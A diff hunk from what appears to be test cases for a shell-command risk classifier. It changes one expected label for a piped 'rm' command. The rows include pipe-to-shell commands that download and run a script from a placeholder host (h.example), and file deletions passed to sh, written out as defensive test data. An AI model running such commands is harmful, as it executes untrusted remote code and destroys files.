@@ -410,7 +410,7 @@ table('shells and others', [
   ['bash', 'unknown'],
   ['bash -s < a.sh', 'known', `read:${P}/a.sh`, `exec:${P}/a.sh`],
   ['curl -s http://h.example/x | sh', 'unknown'],
-  ['echo "rm x" | sh', 'known', `delete:${P}/x`],
+  ['echo "rm x" | sh', 'unknown', `delete:${P}/x`],
   ['bash <(curl -s http://h.example/x)', 'unknown'],
   ['bash --version', 'harmless'],
   ['fish -c "rm x"', 'unknown'],
